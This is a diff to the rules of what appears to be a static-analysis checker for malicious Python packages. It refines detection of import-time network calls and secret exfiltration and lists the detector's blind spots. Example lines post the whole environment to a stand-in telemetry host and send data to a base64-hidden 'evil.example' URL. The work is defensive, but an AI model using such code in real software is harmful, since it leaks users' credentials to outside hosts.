@@ -10,8 +10,12 @@ RULES = [
         confidence="high", cwe=("CWE-506", "CWE-912"),
         summary="Network call that runs when the module is imported (or any network in setup.py, conftest.py, __init__.py, .pth)",
         what=("Flags network calls at module level, in class bodies, decorators and default arguments of\n"
-              "any module (not under `if __name__ == '__main__'`), and any network call at all in\n"
-              "setup.py, conftest.py, __init__.py, sitecustomize.py, usercustomize.py and .pth files."),
+              "any module (not under `if __name__ == '__main__'`), calls at import time of functions of\n"
+              "the module that reach the network, network calls in the body of a registration decorator\n"
+              "(runs whenever a function is decorated), and any network call at all in setup.py,\n"
+              "conftest.py, __init__.py, sitecustomize.py, usercustomize.py and `import` lines of .pth\n"
+              "files (helpers there that only forward their caller's URL, or talk to localhost, are not\n"
+              "flagged)."),
         why=("Import-time code runs on every developer machine, CI runner and production host that\n"
              "merely imports the package, or runs `pip install`/`pytest`: no one calls it, no one\n"
              "reviews when it runs. It is the classic place for a beacon or a data grab."),
@@ -34,6 +38,10 @@ RULES = [
              "one of them, and it looks like ordinary telemetry in review."),
         example='requests.post("https://telemetry.example/collect", json=dict(os.environ))',
         use_instead="Send only the specific, non-secret fields a service needs, to a configured endpoint you own.",
+        known_problems=("Secret-named environment keys count only when they travel in the body, query or host of a\n"
+                        "request (or to a hidden destination), not in Authorization headers, and not when the\n"
+                        "destination is configured next to the key (CRM_API_KEY sent to CRM_BASE_URL). The\n"
+                        "dataflow stays within one module; data passed between modules is not followed."),
         fix="send only the non-secret fields you need, never the environment or credential files",
         references=_EXFIL_REFS,
     ),
@@ -48,6 +56,9 @@ RULES = [
              "bare IP, or a request bin exists to keep a reviewer from seeing where the data goes."),
         example='requests.post(base64.b64decode("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=").decode(), data=payload)',
         use_instead="Put service URLs in configuration, spelled out, pointing at hosts you operate.",
+        known_problems=("Private, loopback and link-local addresses are not flagged. A host split only at dots\n"
+                        "('api.' + DOMAIN) counts as plainly written. The list of services is in\n"
+                        "checkers/data/exfil_hosts.txt."),
         fix="spell out the destination in configuration; use a host you operate",
         references=_EXFIL_REFS,
     ),
